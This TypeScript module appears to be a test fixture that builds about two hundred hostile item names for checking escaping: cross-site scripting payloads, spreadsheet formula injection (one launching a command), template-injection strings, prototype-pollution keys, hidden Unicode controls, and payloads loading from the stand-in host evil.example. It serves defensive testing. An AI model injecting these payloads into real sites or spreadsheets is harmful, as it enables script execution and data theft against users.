/**
 * Two hundred names that a stranger might give an item: markup, script, handlers, addresses that act, escapes, formulas,
 * characters that hide or reorder text. A name has no line break, for a line is read on its own.
 * @module
 */

const ACT = "window.hacked=1";

const TAGS = [
  "img",
  "svg",
  "video",
  "audio",
  "iframe",
  "object",
  "embed",
  "body",
  "input",
  "details",
  "math",
  "style",
  "link",
];
const HANDLERS = ["onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onbegin"];
const BREAKOUTS = [
  '">',
  "'>",
  "`>",
  "</title>",
  "</style>",
  "</script>",
  "</textarea>",
  "</svg>",
  "-->",
  "]]>",
];
const ADDRESSES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "data:text/html,",
  "vbscript:",
  "blob:",
  "//evil.example/",
];
const HIDERS = [
  "\u202e",
  "\u2066",
  "\u2069",
  "\u200b",
  "\u200d",
  "\ufeff",
  "\u061c",
  "\u00ad",
  "\u0007",
  "\u001b[31m",
  "\u009b2J",
  "\u0000",
];
const FORMULAS = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  '=HYPERLINK("http://evil.example")',
];
const WORDS = [
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "undefined",
  "null",
  "NaN",
  "0",
  "true",
  "{}",
  "[object Object]",
];
const TEMPLATES = [
  "{{constructor.constructor('hacked=1')()}}",
  `$\{hacked=1}`,
  "<%= hacked=1 %>",
  "#{hacked=1}",
  "%3Cscript%3E",
  "&lt;script&gt;",
  "&#60;script&#62;",
  "\\u003cscript\\u003e",
];
const SHAPES = [
  "😀".repeat(40),
  "👩‍👩‍👧‍👦",
  "Z\u0351\u036b\u0343a\u0310lgo",
  "ﷺ",
  "𝓌𝒾𝓃𝓃ℴ𝓌",
  "مرحبا abc",
  "שלום",
  "a".repeat(5000),
  " leading",
  "trailing ",
  "  ",
  "\u3000",
  "ǅ",
  "ß",
  "İ",
];

export const HOSTILE_NAMES: readonly string[] = [
  `<script>${ACT}</script>`,
  `<script src=//evil.example></script>`,
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} src=x ${handler}=${ACT}>`)),
  ...BREAKOUTS.map((breakout) => `${breakout}<img src=x onerror=${ACT}>`),
  ...ADDRESSES.map((address) => `<a href="${address}${ACT}">x</a>`),
  ...HIDERS.map((hider) => `safe${hider}name`),
  ...HIDERS.map((hider) => hider),
  ...TAGS.flatMap((tag) => [`<${tag}/${HANDLERS[0]}=${ACT}//`, `<\u0000${tag} ${HANDLERS[1]}=${ACT}>`]),
  ...FORMULAS,
  ...WORDS,
  ...TEMPLATES,
  ...SHAPES,
  `" onmouseover="${ACT}`,
  `' onfocus='${ACT}' autofocus='`,
  `url(javascript:${ACT})`,
  `*{background:url(//evil.example)}`,
  `@import "//evil.example"`,
  `<template><img src=x onerror=${ACT}></template>`,
  `<base href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<form action=//evil.example><button>x`,
].slice(0, 200);

/** As a field of CSV. */
export function csvField(text: string): string {
  return `"${text.replaceAll('"', '""')}"`;
}
